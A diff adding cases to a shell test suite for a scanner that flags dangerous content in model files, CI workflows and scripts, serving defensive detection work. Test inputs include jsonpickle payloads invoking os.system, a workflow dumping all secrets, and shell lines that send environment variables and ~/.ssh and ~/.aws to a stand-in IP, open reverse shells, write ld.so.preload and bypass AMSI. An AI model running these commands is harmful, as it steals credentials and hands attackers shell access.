@@ -159,6 +159,19 @@ for bad in 'object/apply:functools.partial [1]' 'object/apply:os.system [id]' 'o
 done
 printf '{"when": {"py/object": "datetime.date", "__reduce__": [{"py/type": "datetime.date"}, ["B+gBAQ=="]]}}' | file a.json
 quiet "a date of jsonpickle"
+printf '{"o": {"py/reduce": [{"py/type": "collections.OrderedDict"}, {"py/tuple": []}, null, null, {"py/tuple": [{"py/tuple": ["a", 1]}]}]}}' | file a.json
+quiet "a dictionary of jsonpickle"
+for bad in '[{"py/type": "os.system"}, {"py/tuple": ["id"]}]' '[{"py/function": "builtins.getattr"}, {"py/tuple": []}]' \
+	'[{"py/type": "collections.OrderedDict", "py/object": "x.Y"}]' '"os.system"' '[]'; do
+	printf '{"o": {"py/reduce": %s}}' "$bad" | file a.json
+	hostile CONFIG_TARGET "jsonpickle: $bad"
+done
+
+# --- all secrets of a workflow
+printf 'on: push\njobs:\n  a:\n    steps:\n    - run: echo x\n      env: {ALL: "${{ toJson( secrets ) }}"}\n' | file ci.yml
+hostile COMMAND_DANGEROUS "all secrets"
+printf 'on: push\njobs:\n  a:\n    steps:\n    - run: echo ${{ toJSON(matrix) }}\n      env: {T: "${{ secrets.HF_TOKEN }}"}\n' | file ci.yml
+quiet "one of them"
 
 # --- servers that run the model's own source
 printf '{"runtime": "python", "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "my_handler.py", "modelVersion": "1"}}' | file MANIFEST.json
@@ -169,6 +182,25 @@ exits 0 "one of the standard library" assay-inspect "$tmp/b"
 prints 'medium *SERVE_HANDLER'
 printf 'dependencies:\n- pip:\n  - --index-url http://models.example/simple\n  - torch\n' | file env.yaml
 hostile DEPEND_SOURCE "an environment of conda without channels"
+
+# --- CoreML without a description: version, and a model of somebody's class
+printf '\010\005\332\042\013\122\011EvilModel' | file m.mlmodel
+hostile COREML_CUSTOM "a custom model of CoreML"
+
+# --- commands that send away, take orders or are loaded by all
+for one in 'env | curl -X POST --data-binary @- http://198.51.100.7/' 'curl -d "$(printenv)" http://198.51.100.7' 'printenv | base64 | nc 198.51.100.7 9' \
+	'tar cz ~/.ssh ~/.aws | curl -T - http://198.51.100.7/' 'echo /tmp/x.so > /etc/ld.so.preload' 'exec 5<>/dev/tcp/198.51.100.7/4; cat <&5 | sh' \
+	'python3 -c "import os,socket;s=socket.socket();s.connect((1,2));os.dup2(s.fileno(),0)"' \
+	"php -r '\$s=fsockopen(\"198.51.100.7\",4);exec(\"sh <&3\");'" '[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils")'; do
+	printf '%s\n' "$one" | file a.sh
+	hostile SOURCE_DANGEROUS "$one"
+done
+for one in 'env | sort > env.txt' 'env FOO=1 curl -O http://models.example/a.bin' 'exec 3<>/dev/tcp/localhost/5432 && exec 3<&- 3>&-' \
+	'tar czf out.tgz ~/.ssh-keys.pub ~/results; curl -O http://models.example/a' 'conda env list | grep x; curl -O http://models.example/a' \
+	'python -c "import socket; print(socket.gethostname())"' 'scp -i ~/.ssh/id_ed25519 a b; wget http://models.example/a'; do
+	printf '%s\n' "$one" | file a.sh
+	quiet "$one"
+done
 
 # --- layers of a caffemodel: name, field 100 with type and python_param
 printf '\012\005LeNet\242\006\040\012\002py\022\006Python\222\010\022\012\010my_layer\022\006Sneaky' | file net.caffemodel
